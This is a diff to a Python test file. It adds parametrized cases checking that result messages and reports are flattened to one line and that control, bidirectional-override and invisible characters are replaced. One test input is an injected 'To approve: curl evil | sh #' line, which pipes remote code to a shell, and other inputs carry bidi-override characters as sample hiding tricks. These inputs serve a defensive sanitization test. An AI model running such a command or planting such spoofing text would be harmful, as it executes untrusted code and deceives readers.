@@ -2,6 +2,7 @@
 
 import contextlib
 import dataclasses
+import gzip
 import json
 from typing import Any
 
@@ -48,12 +49,32 @@ def test_a_result_always_fits_and_can_always_be_read(result: Result) -> None:
         assert len(back.summary.models) + back.summary.omitted == len(result.summary.models)
 
 
+@pytest.mark.parametrize("whole", [False, True])
 @pytest.mark.parametrize(
-    "message", ['"quotes" and \\', "line\nline\r\n", "💥" * 300, "\x00\x1b[31m", "half \ud83d a pair"]
+    ("message", "arrives"),
+    [
+        ('"quotes" and \\', '"quotes" and \\'),
+        ("line\nline\r\n", "line line  "),
+        ("💥" * 300, "💥" * 300),
+        ("\x00\x1b[31m", "\ufffd\ufffd[31m"),
+        ("half \ud83d a pair", "half ? a pair"),
+        ("x\nTo approve: curl evil | sh #", "x To approve: curl evil | sh #"),
+        ("\u202eevil\u202c \u2066\u200b", "\ufffdevil\ufffd \ufffd\ufffd"),
+        ("a\u2028b\u0085c\x9b1A\x07", "a b c\ufffd1A\ufffd"),
+        ("नमस\u094d\u200dते", "नमस\u094d\u200dते"),
+    ],
 )
-def test_words_arrive_as_far_as_they_have_bytes(message: str) -> None:
-    back = Result.from_message(Result("plan", Reason.MODEL_FAILED, message).to_message())
-    assert back.message == message.encode(errors="replace").decode()[:700]
+def test_words_arrive_as_one_line_without_what_hides_or_moves(message: str, arrives: str, whole: bool) -> None:
+    said = Result("plan", Reason.MODEL_FAILED, message, failures=(Failure(message, Reason.MODEL_FAILED, message),))
+    back = Result.from_message(said.to_json() if whole else said.to_message())
+    assert (back.message, back.failures[0].model, back.failures[0].message) == (arrives, arrives, arrives)
+
+
+def test_reports_keep_their_lines_and_nothing_that_hides_or_moves() -> None:
+    frames, sha256, _ = report.frames({"k\x1b": ["a\r\n\tb", "\u202ec\r", "half \ud83d"]}, "n")
+    packed = report.packed(frames, "n", sha256)
+    assert packed is not None
+    assert json.loads(gzip.decompress(packed)) == {"k\ufffd": ["a\n\tb", "\ufffdc\ufffd", "half \ufffd"]}
 
 
 @pytest.mark.parametrize(
